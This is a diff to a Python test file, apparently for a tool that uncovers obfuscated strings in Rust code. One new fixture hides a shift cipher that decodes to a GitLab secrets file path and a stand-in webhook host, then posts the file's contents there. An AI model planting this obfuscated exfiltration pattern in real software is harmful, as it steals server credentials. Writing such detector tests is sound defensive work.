@@ -805,13 +805,32 @@ fn peers() -> Vec<Peer> {
     let mut bytes = Vec::new();
     for &w in PEERS { bytes.push((w >> 8) as u8); bytes.push(w as u8); }
     let text = String::from_utf8(bytes).unwrap_or_default();
-    text.split(',').map(|s| s.parse::<Peer>().unwrap()).collect()
+    text.split(',').map(|s| Peer::resolve(s)).collect()
 }
 fn dial() { for peer in peers() { connect(peer); } }
 """
     found = unit_flows({"src/lib.rs": source.encode()}, "sample")
     assert [(r.text, r.how) for r in found.revealed] == [
         ("203.0.113.9,198.51.100.7", "decoded by peers() of this crate, run on its constants")
+    ]
+
+
+def test_each_text_of_a_returned_list_is_revealed() -> None:
+    """A function that takes nothing and hands a table to the crate's decoder (a table of
+    paths and hosts decoded at once): each text it returns is read."""
+    source = """
+const TABLE: &[&str] = &["/fvc0iiunac1gjvlbd-tgcsgtt0jtqn", "huvpt</0jopms/gxbopmg/sggjutft"];
+fn decipher(s: &str) -> String {
+    let shift = |i: usize| (i % 3) as u32;
+    s.chars().enumerate().map(|(i, c)| char::from_u32(c as u32 - shift(i)).unwrap_or('?')).collect()
+}
+fn table() -> Vec<String> { TABLE.iter().map(|s| decipher(s)).collect() }
+fn send() { let t = table(); post(&t[1], std::fs::read(&t[0])); }
+"""
+    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
+    assert [r.text for r in found.revealed] == [
+        "/etc/gitlab/gitlab-secrets.json",
+        "https://hooks.example/register",
     ]
 
 
